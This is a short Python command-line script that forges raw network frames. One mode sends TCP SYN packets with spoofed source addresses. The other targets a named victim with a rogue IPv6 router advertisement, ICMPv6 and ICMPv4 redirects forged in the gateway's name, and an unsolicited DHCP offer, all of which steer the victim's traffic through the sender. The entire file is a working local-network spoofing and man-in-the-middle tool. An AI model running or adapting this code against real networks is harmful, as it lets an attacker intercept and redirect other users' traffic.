"""Sends frames that say what is not so; the first word says which.

    syn LINK MAC FROM TO PORT   the first packet of a connection, from anybody to anybody
    lies LINK MAC OWN VICTIM GATEWAY OWN6 VICTIM6 GATEWAY6 FAR FAR6
                                routers, better ways and offers of addresses that nobody has asked for
"""
import socket
import struct
import sys

ALL = bytes.fromhex("333300000001")


def sum_of(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return struct.pack("!H", ~total & 0xffff)


def octets(address):
    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)


def ipv4(kind, source, target, payload):
    head = struct.pack("!BBHHHBB", 0x45, 0, 20 + len(payload), 7, 0, 64, kind) + b"\0\0"
    head += octets(source) + octets(target)
    return head[:10] + sum_of(head) + head[12:] + payload


def ipv6(kind, source, target, payload):
    return struct.pack("!IHBB", 6 << 28, len(payload), kind, 255) + octets(source) + octets(target) + payload


def covered(kind, source, target, data, at):
    """With the sum over itself and the addresses, which goes in at this place."""
    pseudo = octets(source) + octets(target) + struct.pack("!II", len(data), kind)
    return data[:at] + sum_of(pseudo + data) + data[at + 2:]


def packet(kind, source, target, data, at):
    make = ipv6 if ":" in source else ipv4
    return make(kind, source, target, covered(kind, source, target, data, at))


class Wire:
    def __init__(self, link):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.socket.bind((link, 0))
        self.own = self.socket.getsockname()[4]

    def send(self, to, packet):
        kind = 0x86dd if packet[0] >> 4 == 6 else 0x0800
        self.socket.send(to + self.own + struct.pack("!H", kind) + packet)


def syn(link, to, source, target, port):
    data = struct.pack("!HHIIBBHHH", 40000, int(port), 1, 0, 0x50, 2, 1024, 0, 0)
    Wire(link).send(bytes.fromhex(to.replace(":", "")), packet(6, source, target, data, 16))


def lies(link, to, own, victim, gateway, own6, victim6, gateway6, far, far6):
    wire, to = Wire(link), bytes.fromhex(to.replace(":", ""))
    local = "fe80::bad"
    # A router with a prefix, a default route and a route, for everybody and for the victim.
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xc0, 1800, 1800, 0) + octets("fdbd::")
    route = struct.pack("!BBBBI", 24, 3, 64, 8, 1800) + octets("fdbe::")
    router = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    router += prefix + route + b"\1\1" + wire.own
    wire.send(ALL, packet(58, local, "ff02::1", router, 2))
    wire.send(to, packet(58, local, victim6, router, 2))
    # A better way to a host far away, told in the name of the gateway.
    for source in (local, gateway6):
        asked = ipv6(58, victim6, far6, struct.pack("!BBHHH", 128, 0, 0, 1, 1))
        better = struct.pack("!BBHI", 137, 0, 0, 0) + octets(own6) + octets(far6)
        better += b"\2\1" + wire.own + b"\4" + bytes([(8 + len(asked)) // 8]) + bytes(6) + asked
        wire.send(to, packet(58, source, victim6, better, 2))
    # Of an answer, which belongs to no socket that could be asked whether it was sent.
    asked = ipv4(1, victim, far, struct.pack("!BBHHH", 0, 0, 0xffff, 0, 0))
    better = struct.pack("!BBH", 5, 1, 0) + octets(own) + asked
    better = better[:2] + sum_of(better) + better[4:]
    wire.send(to, ipv4(1, gateway, victim, better))
    # An address, a way out and a name server, for whoever asks for one.
    offer = struct.pack("!BBBBIHH", 2, 1, 6, 0, 7, 0, 0x8000) + octets("0.0.0.0") + octets("10.66.0.2")
    offer += octets(own) + bytes(4) + to + bytes(202) + bytes.fromhex("63825363350102") + b"\xff"
    offer = struct.pack("!HHHH", 67, 68, 8 + len(offer), 0) + offer
    wire.send(to, packet(17, own, victim, offer, 6))


how, *more = sys.argv[1:]
{"syn": syn, "lies": lies}[how](*more)
print("sent")
